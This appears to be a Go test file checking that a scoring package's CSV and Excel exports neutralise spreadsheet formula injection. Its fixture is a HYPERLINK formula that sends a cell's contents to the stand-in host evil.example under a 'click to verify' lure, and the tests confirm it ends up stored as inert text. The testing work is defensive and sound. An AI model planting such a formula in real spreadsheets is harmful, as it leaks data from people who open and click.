package score

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/xuri/excelize/v2"
)

const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"点击核实")`

// formulaCard is a card whose child region is named by a formula and whose change is negative.
func formulaCard() *Card {
	child := Row{Region: "621121100000", Name: hyperlink, Total: 80, Max: 100, Gap: 20, Rank: 1, HasPrev: true, Change: -12.5}
	return &Card{Period: "2026", Parent: Row{Region: "621121000000", Name: "=1+1", Total: 80, Max: 100}, Children: []Row{child}}
}

// TestWriteCSVNeutralisesFormulas: the region name gets its apostrophe, the negative change
// stays a number.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, formulaCard()); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := recs[1]
	if row[1] != "'"+hyperlink {
		t.Errorf("region_name %q", row[1])
	}
	if len(row) != len(Header()) {
		t.Fatalf("%d cells, %d columns", len(row), len(Header()))
	}
	if change := row[slices.Index(Header(), "change")]; change != "-12.5" {
		t.Errorf("change %q, want -12.5", change)
	}
}

// TestWriteXLSXStoresFormulasAsText: names that are formulas are string cells in the
// workbook, without a formula.
func TestWriteXLSXStoresFormulasAsText(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, formulaCard()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	for cell, want := range map[string]string{"B3": hyperlink, "B4": "=1+1（合计）"} {
		got, err := f.GetCellValue(sheet, cell)
		if err != nil || got != want {
			t.Errorf("%s = %q (%v), want %q", cell, got, err, want)
		}
		if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
			t.Errorf("%s has the formula %q (%v)", cell, formula, err)
		}
		typ, err := f.GetCellType(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s has the type %v, want a string", cell, typ)
		}
	}
}
